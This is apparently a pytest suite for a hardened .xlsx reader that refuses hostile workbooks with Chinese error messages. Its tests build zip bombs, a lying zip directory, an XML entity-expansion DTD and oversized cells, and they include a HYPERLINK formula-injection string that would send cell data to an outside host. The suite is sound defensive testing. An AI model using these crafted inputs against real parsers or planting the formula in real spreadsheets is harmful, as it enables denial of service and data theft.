"""core.excel.read_rows: hostile .xlsx files are refused quickly, in bounded memory, with a Chinese
message — real crafted files, built here byte by byte (a zip with the parts a workbook needs)."""
import datetime
import io
import struct
import time
import tracemalloc
import zipfile

import pytest

from core.excel import ReadLimits, WorkbookRefused, build_workbook, read_rows

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
PKG_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = f'<?xml version="1.0"?><workbook {NS} {R_NS}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
WB_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
    ' Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"'
    ' Target="sharedStrings.xml"/>'
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"'
    ' Target="styles.xml"/></Relationships>'
)
STYLES = (f'<?xml version="1.0"?><styleSheet {NS}><numFmts count="1"><numFmt numFmtId="176" formatCode="yyyy/m/d"/>'
          '</numFmts><cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="176"/><xf numFmtId="31"/></cellXfs></styleSheet>')


def package(sheet_rows_xml, *, shared=None, extra=(), stream=None) -> bytes:
    """A minimal .xlsx: ``sheet_rows_xml`` inside <sheetData> (a str, or chunks via ``stream``),
    ``shared`` strings (a str of <si> elements, or an iterable of chunks)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", PKG_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        archive.writestr("xl/styles.xml", STYLES)
        with archive.open("xl/worksheets/sheet1.xml", "w") as out:
            out.write(f'<?xml version="1.0"?><worksheet {NS}><sheetData>'.encode())
            for chunk in stream or [sheet_rows_xml]:
                out.write(chunk.encode())
            out.write(b"</sheetData></worksheet>")
        if shared is not None:
            with archive.open("xl/sharedStrings.xml", "w") as out:
                out.write(f'<?xml version="1.0"?><sst {NS}>'.encode())
                for chunk in [shared] if isinstance(shared, str) else shared:
                    out.write(chunk.encode())
                out.write(b"</sst>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def refused(content: bytes, **limits) -> WorkbookRefused:
    started = time.monotonic()
    with pytest.raises(WorkbookRefused) as error:
        read_rows(io.BytesIO(content), limits=ReadLimits(**limits) if limits else None)
    assert time.monotonic() - started < 10
    return error.value


def test_reads_strings_numbers_dates_and_inline_strings_of_a_plain_sheet():
    xml = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>42</v></c><c r="C1" s="1"><v>43466</v></c>'
           '<c r="D1" s="2"><v>43467</v></c><c r="E1" t="inlineStr"><is><t>三组_x000D_12号</t></is></c></row>'
           '<row r="3"><c r="B3" t="b"><v>1</v></c><c r="C3" t="str"><f>A1</f><v>公式结果</v></c></row>')
    rows = read_rows(io.BytesIO(package(xml, shared="<si><t>李家村</t><rPh><t>リ</t></rPh></si>")))
    assert rows == [
        (1, ["李家村", 42, datetime.datetime(2019, 1, 1), datetime.datetime(2019, 1, 2), "三组\r12号"]),
        (3, [None, True, "公式结果"]),
    ]


def test_a_workbook_written_by_the_safe_writer_reads_back_unchanged():
    hostile = ['=HYPERLINK("http://x/?d="&A1,"点")', "_x0041_ stays literal", "a\nb"]
    content = build_workbook(title="t", notes=[], headers=["h"], rows=[[v] for v in hostile])
    assert [cells[0] for _n, cells in read_rows(io.BytesIO(content))[2:]] == hostile


def test_shared_strings_expanding_to_hundreds_of_megabytes_are_refused_from_the_zip_directory():
    # 300 MB of shared strings in a file of a few hundred KB: refused before a byte is inflated.
    chunk = "<si><t>" + "a" * 1_000_000 + "</t></si>"
    content = package('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=(chunk for _ in range(300)))
    assert len(content) < 1_000_000
    tracemalloc.start()
    try:
        error = refused(content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert error.code == "uncompressed_size" and "解压后过大" in str(error)
    assert peak < 20 * 1024 * 1024


def test_ten_million_tiny_shared_strings_are_refused_from_the_zip_directory():
    content = package("", shared=("<si><t>a</t></si>" * 100_000 for _ in range(100)))
    assert len(content) < 2_000_000
    assert refused(content).code == "uncompressed_size"


def test_too_many_shared_strings_under_the_size_limit_are_refused_by_count():
    content = package("", shared=("<si><t>a</t></si>" * 10_000 for _ in range(30)))
    assert refused(content, max_shared_strings=200_000).code == "shared_strings"


def test_a_zip_directory_that_understates_a_part_cannot_smuggle_more_bytes():
    real = package("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 20001)))
    # Rewrite the sheet's uncompressed size in the central directory to 1 KB.
    name = b"xl/worksheets/sheet1.xml"
    at = real.rindex(b"PK\x01\x02", 0, real.rindex(name))
    lying = real[:at + 24] + struct.pack("<I", 1024) + real[at + 28:]
    error = refused(lying)
    assert error.code == "damaged" and "已损坏" in str(error)


def test_a_cell_longer_than_the_limit_is_refused_naming_its_row():
    error = refused(package(f'<row r="7"><c r="B7" t="inlineStr"><is><t>{"长" * 5000}</t></is></c></row>'))
    assert error.code == "cell_chars" and "第 7 行" in str(error)
    shared = package('<row r="2"><c r="A2" t="s"><v>0</v></c></row>', shared=f"<si><t>{'x' * 3000}</t></si>")
    assert "第 2 行" in str(refused(shared))


def test_a_200_megabyte_cell_in_one_row_is_refused_before_reading():
    content = package("", stream=['<row r="1"><c r="A1" t="inlineStr"><is><t>',
                                  *("x" * 1_000_000 for _ in range(200)), "</t></is></c></row>"])
    assert refused(content).code == "uncompressed_size"


def test_too_many_rows_are_refused():
    content = package("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 102)))
    error = refused(content, max_rows=100)
    assert error.code == "rows" and "100" in str(error)


def test_a_value_beyond_the_column_limit_is_refused_not_dropped():
    error = refused(package('<row r="1"><c r="A1"><v>1</v></c><c r="BZ1"><v>2</v></c></row>'))
    assert error.code == "columns" and "第 1 行" in str(error)


def test_empty_styled_cells_far_to_the_right_are_not_values():
    rows = read_rows(io.BytesIO(package('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1" s="1"/></row>')))
    assert rows == [(1, [1])]


def test_total_text_is_bounded():
    cell = "<c t=\"inlineStr\"><is><t>" + "x" * 1000 + "</t></is></c>"
    content = package("".join(f'<row r="{n}">{cell * 20}</row>' for n in range(1, 201)))
    assert refused(content, max_total_chars=1_000_000).code == "total_chars"


def test_reading_stops_at_the_time_budget():
    content = package("".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(1, 400_001)))
    error = refused(content, time_budget_s=0.01)
    assert error.code == "time_budget" and "秒内未能读完" in str(error)


def test_a_dtd_is_refused_so_no_entity_can_expand():
    laughs = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
              f'<sst {NS}><si><t>&b;</t></si></sst>')
    content = package('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', extra=[("xl/sharedStrings.xml", laughs)])
    assert refused(content).code == "damaged"


def test_too_many_zip_entries_are_refused():
    content = package("", extra=[(f"xl/media/{n}.bin", b"") for n in range(400)])
    assert refused(content).code == "entries"


@pytest.mark.parametrize("content", [b"\xd0\xcf\x11\xe0 encrypted or .xls", b"PK\x03\x04 not really a zip", b""])
def test_files_that_are_not_xlsx_are_refused_in_chinese(content):
    error = refused(content)
    assert error.code == "not_xlsx" and "无法读取该文件" in str(error)


def test_a_zip_without_a_worksheet_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    assert refused(buffer.getvalue()).code == "damaged"


def test_a_cell_merged_down_gives_its_value_to_every_row_it_spans_and_a_title_merged_across_does_not():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["城关镇摸底表"])
    sheet.append(["序号", "村/社区", "妻子姓名"])
    sheet.append([1, "李家村", "王芳"])
    sheet.append([2, None, "李娜"])
    sheet.append([3, None, "张敏"])
    sheet.append([4, "张庄村", "赵丽"])
    sheet.merge_cells("A1:C1")  # the title, across
    sheet.merge_cells("B3:B5")  # the village, down
    buffer = io.BytesIO()
    book.save(buffer)
    rows = read_rows(buffer)
    assert rows[0] == (1, ["城关镇摸底表"])
    assert [cells[1] for _n, cells in rows[2:]] == ["李家村", "李家村", "李家村", "张庄村"]
